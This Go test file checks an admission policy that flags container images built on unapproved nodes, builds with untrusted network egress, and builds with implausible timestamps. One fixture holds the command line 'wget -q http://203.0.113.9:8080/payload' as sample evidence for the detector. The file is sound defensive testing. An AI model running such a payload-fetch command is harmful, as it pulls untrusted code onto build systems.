package policy

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestNodeEvidence(t *testing.T) {
	p := mustCompile(t, Spec{
		Registries: Registries{Allow: []string{"ghcr.io/**"}},
		NodeEvidence: &NodeEvidence{
			ApprovedBuildNodes:  []string{"ci-runner-*"},
			TrustedDestinations: []string{"10.0.0.0/8", "*.debian.org", "registry.acme.internal"},
			BuildWindow:         Duration{5 * time.Minute},
		},
	})
	start := now.Add(-time.Hour)
	build := func(node string, pids []int, containers []string, conns ...ConnectionEvidence) BuildEvidence {
		return BuildEvidence{Source: "agent", Node: node, Tool: "docker", ImageID: "sha256:c", MatchedBy: "image-id",
			Started: start, Finished: start.Add(time.Minute), PIDs: pids, ContainerIDs: containers, Connections: conns}
	}
	conn := func(node string, at time.Duration, pid int, container, ip string, port int, name string) ConnectionEvidence {
		return ConnectionEvidence{Source: "agent", Node: node, Time: start.Add(at), Process: "wget", PID: pid, ContainerID: container,
			DestIP: netip.MustParseAddr(ip), DestPort: port, DestName: name}
	}
	tests := []struct {
		name   string
		builds []BuildEvidence
		want   string
	}{
		{"no evidence", nil, ""},
		{"approved node, trusted egress", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 30*time.Second, 1, "", "10.1.2.3", 443, ""))}, ""},
		{"built on a worker", []BuildEvidence{build("worker-3", nil, nil)}, "host-built/deny"},
		{"raw IP during the build", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 8080, ""))}, "untrusted-egress/deny"},
		{"trusted by name", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 30*time.Second, 42, "", "151.101.2.132", 443, "deb.debian.org"))}, ""},
		{"within the window after", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 5*time.Minute, 42, "", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
		{"outside the window", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 7*time.Minute, 42, "", "203.0.113.9", 80, ""))}, ""},
		{"another node", []BuildEvidence{build("ci-runner-1", nil, nil, conn("worker-9", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, ""},
		{"not the build's process", []BuildEvidence{build("ci-runner-1", []int{100}, nil, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, ""},
		{"the build's process", []BuildEvidence{build("ci-runner-1", []int{42}, nil, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
		{"the build's step container (short ID)", []BuildEvidence{build("ci-runner-1", nil, []string{"0123456789abcdef0123"}, conn("ci-runner-1", 30*time.Second, 7, "0123456789ab", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
		{"a container ID too short to name one", []BuildEvidence{build("ci-runner-1", nil, []string{"0123456789abcdef0123"}, conn("ci-runner-1", 30*time.Second, 7, "0123", "203.0.113.9", 80, ""))}, ""},
		{"the build's PID, in another container", []BuildEvidence{build("ci-runner-1", []int{42}, []string{"0123456789abcdef0123"}, conn("ci-runner-1", 30*time.Second, 42, "fedcba9876543210fedc", "203.0.113.9", 80, ""))}, ""},
		{"the build's PID, in no known container", []BuildEvidence{build("ci-runner-1", []int{42}, []string{"0123456789abcdef0123"}, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
		{"the build's PID, reused after the build", []BuildEvidence{build("ci-runner-1", []int{42}, nil, conn("ci-runner-1", 90*time.Second, 42, "", "203.0.113.9", 80, ""))}, ""},
		{"the build's PID, at its very end", []BuildEvidence{build("ci-runner-1", []int{42}, nil, conn("ci-runner-1", time.Minute+3*time.Second, 42, "", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
		{"both at once", []BuildEvidence{build("laptop", nil, nil, conn("laptop", 10*time.Second, 42, "", "203.0.113.9", 80, ""))}, "host-built/deny untrusted-egress/deny"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// The build writes created as it ends.
			v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(start.Add(time.Minute)), Builds: tt.builds}))
			if got := strings.Join(rules(v), " "); got != tt.want {
				t.Errorf("Decide = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestUntrustedEgressEvidence(t *testing.T) {
	p := mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/**"}}, NodeEvidence: &NodeEvidence{ApprovedBuildNodes: []string{"*"}}})
	start := now.Add(-time.Hour)
	b := BuildEvidence{Source: "agent", Node: "worker-3", Tool: "docker", ImageID: "sha256:c", MatchedBy: "image-id", Started: start, Finished: start.Add(time.Minute),
		Connections: []ConnectionEvidence{{Node: "worker-3", Time: start.Add(20 * time.Second), Process: "wget", PID: 4242, Cmdline: "wget -q http://203.0.113.9:8080/payload",
			DestIP: netip.MustParseAddr("203.0.113.9"), DestPort: 8080}}}
	v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(now.Add(-2 * time.Hour)), Builds: []BuildEvidence{b}}))
	f := v.Images[0].Findings[0]
	span := "(docker build, " + start.UTC().Format(time.RFC3339) + " to " + start.Add(time.Minute).UTC().Format(time.RFC3339) + ")"
	for _, want := range []string{"worker-3", "wget (pid 4242)", "203.0.113.9:8080", start.Add(20 * time.Second).Format(time.RFC3339), span} {
		if !strings.Contains(f.Message, want) {
			t.Errorf("message %q does not name %q", f.Message, want)
		}
	}
	if f.Summary != "build on worker-3 connected to 203.0.113.9:8080" {
		t.Errorf("summary = %q", f.Summary)
	}
}

func TestBuildSpan(t *testing.T) {
	t0 := time.Date(2026, 12, 2, 10, 0, 5, 0, time.UTC)
	t1 := t0.Add(26 * time.Second)
	tests := []struct {
		b    BuildEvidence
		want string
	}{
		{BuildEvidence{Tool: "docker", Started: t0, Finished: t1}, "(docker build, 2026-12-02T10:00:05Z to 2026-12-02T10:00:31Z)"},
		{BuildEvidence{Tool: "buildkit", Finished: t1}, "(buildkit build, finished 2026-12-02T10:00:31Z)"},
		{BuildEvidence{Tool: "docker", Started: t1, Finished: t1}, "(docker build, finished 2026-12-02T10:00:31Z)"},
		{BuildEvidence{Tool: "kaniko", Started: t0}, "(kaniko build, started 2026-12-02T10:00:05Z)"},
		{BuildEvidence{}, "(image build)"},
	}
	for _, tt := range tests {
		if got := buildSpan(tt.b); got != tt.want {
			t.Errorf("buildSpan(%+v) = %q, want %q", tt.b, got, tt.want)
		}
	}
}

func TestNodeEvidenceConfigErrors(t *testing.T) {
	for _, tt := range []struct {
		ne   NodeEvidence
		want string
	}{
		{NodeEvidence{ApprovedBuildNodes: []string{"a b"}}, "nodeEvidence.approvedBuildNodes[0]"},
		{NodeEvidence{TrustedDestinations: []string{"10.0.0.0/33"}}, "nodeEvidence.trustedDestinations"},
		{NodeEvidence{BuildWindow: Duration{-time.Second}}, "nodeEvidence.buildWindow"},
	} {
		ne := tt.ne
		if _, err := Compile(Spec{NodeEvidence: &ne}); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("Compile(%+v) = %v, want an error naming %s", tt.ne, err, tt.want)
		}
	}
}

// A build dated after the admission it is judged at, or finished long
// before the image it names was created, is a broken clock or a forged
// report: it is flagged (implausible-build-time, a warning) and denies
// nothing by itself; a sane build of the same image still does.
func TestImplausibleBuildTime(t *testing.T) {
	p := mustCompile(t, Spec{
		Registries:   Registries{Allow: []string{"ghcr.io/**"}},
		NodeEvidence: &NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}, TrustedDestinations: []string{"10.0.0.0/8"}},
	})
	created := now.Add(-2 * time.Hour)
	build := func(node string, started, finished time.Time, conns ...ConnectionEvidence) BuildEvidence {
		return BuildEvidence{Source: "agent", Node: node, Tool: "docker", ImageID: "sha256:c", MatchedBy: "image-id",
			Started: started, Finished: finished, Connections: conns}
	}
	egress := func(node string, at time.Time) ConnectionEvidence {
		return ConnectionEvidence{Source: "agent", Node: node, Time: at, Process: "wget", PID: 7, DestIP: netip.MustParseAddr("203.0.113.9"), DestPort: 80}
	}
	tests := []struct {
		name    string
		builds  []BuildEvidence
		created time.Time
		want    string
		reason  string
	}{
		{"a sane host build", []BuildEvidence{build("worker-3", created.Add(-time.Minute), created)}, created, "host-built/deny", ""},
		{"23h in the future", []BuildEvidence{build("worker-3", now.Add(23*time.Hour), now.Add(23*time.Hour))}, created,
			"implausible-build-time/warn", "after-admission"},
		{"finished after the admission", []BuildEvidence{build("worker-3", now.Add(-time.Minute), now.Add(10*time.Minute))}, created,
			"implausible-build-time/warn", "after-admission"},
		{"within maxClockSkew of the admission, fresh by the node's report", []BuildEvidence{build("worker-3", now.Add(-time.Minute), now.Add(30*time.Second))}, now.Add(-30 * time.Second),
			"fresh-image/deny host-built/deny", ""},
		{"finished years before the image was created", []BuildEvidence{build("worker-3", time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2000, 1, 1, 0, 1, 0, 0, time.UTC))}, created,
			"implausible-build-time/warn", "before-image-created"},
		{"untrusted egress of a build in the future", []BuildEvidence{build("ci-runner-1", now.Add(time.Hour), now.Add(time.Hour), egress("ci-runner-1", now.Add(time.Hour)))}, created,
			"implausible-build-time/warn", "after-admission"},
		{"long after the image was created (a cached or reproducible rebuild) on a worker", []BuildEvidence{build("worker-3", now.Add(-time.Hour), now.Add(-time.Hour))}, now.Add(-400 * 24 * time.Hour),
			"inconsistent-created-time/deny host-built/deny", ""},
		{"long after the image was created, on an approved node", []BuildEvidence{build("ci-runner-1", now.Add(-time.Hour), now.Add(-time.Hour))}, now.Add(-400 * 24 * time.Hour),
			"", ""},
		{"epoch-zero created says nothing", []BuildEvidence{build("worker-3", now.Add(-time.Hour), now.Add(-time.Hour))}, time.Unix(0, 0),
			"host-built/deny", ""},
		{"a future build on an approved node, nothing to flag", []BuildEvidence{build("ci-runner-1", now.Add(time.Hour), now.Add(time.Hour))}, created, "", ""},
		{"a sane build beside a future one still denies", []BuildEvidence{
			build("worker-3", now.Add(time.Hour), now.Add(time.Hour)),
			build("worker-4", created.Add(-time.Minute), created)}, created,
			"implausible-build-time/warn host-built/deny", "after-admission"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(tt.created), Builds: tt.builds}))
			if got := strings.Join(rules(v), " "); got != tt.want {
				t.Fatalf("Decide = %q, want %q", got, tt.want)
			}
			if tt.reason == "" {
				return
			}
			f := v.Images[0].Findings[0]
			if f.Evidence["reason"] != tt.reason || f.Severity != SeverityMedium {
				t.Errorf("finding %+v, want reason %s, severity medium", f, tt.reason)
			}
			if w, _ := f.Evidence["wouldFind"].([]string); len(w) == 0 {
				t.Errorf("evidence %v does not say what the build would have found", f.Evidence)
			}
			if !strings.Contains(f.Message, "not taken as evidence") {
				t.Errorf("message %q does not say the build was not used", f.Message)
			}
		})
	}
}

// The implausible-build-time action is fixed: it never denies, whatever
// the rules map says.
func TestImplausibleBuildTimeNotConfigurable(t *testing.T) {
	if _, err := Compile(Spec{Rules: map[RuleID]Action{RuleImplausibleBuildTime: ActionDeny}}); err == nil {
		t.Errorf("Compile accepted rules.%s: deny", RuleImplausibleBuildTime)
	}
	if a := mustCompile(t, Spec{}).Action(RuleImplausibleBuildTime); a != ActionWarn {
		t.Errorf("Action(%s) = %s, want warn", RuleImplausibleBuildTime, a)
	}
}

// The verdict says in which windows a node's connections count for the
// image: what late connections are judged against. Builds of an
// implausible time have none; several policies' windows are merged.
func TestConnectionWindows(t *testing.T) {
	spec := func(window time.Duration) Spec {
		return Spec{Registries: Registries{Allow: []string{"ghcr.io/**"}},
			NodeEvidence: &NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}, BuildWindow: Duration{window}}}
	}
	start := now.Add(-time.Hour)
	builds := []BuildEvidence{
		{Source: "agent", Node: "ci-runner-1", Tool: "buildkit", ImageID: "sha256:c", MatchedBy: "image-id", Started: start, Finished: start.Add(time.Minute)},
		{Source: "agent", Node: "worker-3", Tool: "docker", ImageID: "sha256:c", MatchedBy: "image-id", Started: now.Add(time.Hour), Finished: now.Add(time.Hour)},
	}
	f := pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(now.Add(-2 * time.Hour)), Builds: builds})
	v := Combine([]Verdict{Decide(mustCompile(t, spec(5*time.Minute)), f), Decide(mustCompile(t, spec(10*time.Minute)), f)})
	want := []ConnectionWindow{
		{Node: "ci-runner-1", From: start.Add(-5 * time.Minute), To: start.Add(6 * time.Minute)},
		{Node: "ci-runner-1", From: start.Add(-10 * time.Minute), To: start.Add(11 * time.Minute)},
	}
	if got := v.Images[0].Watch; !slices.Equal(got, want) {
		t.Errorf("Watch = %+v, want %+v", got, want)
	}
	if !want[0].Contains("ci-runner-1", start.Add(6*time.Minute)) || want[0].Contains("ci-runner-1", start.Add(7*time.Minute)) || want[0].Contains("ci-runner-2", start) {
		t.Error("ConnectionWindow.Contains is not the window, on its node")
	}
	if v := Decide(mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/**"}}}), f); v.Images[0].Watch != nil {
		t.Errorf("Watch without nodeEvidence = %+v, want none", v.Images[0].Watch)
	}
}
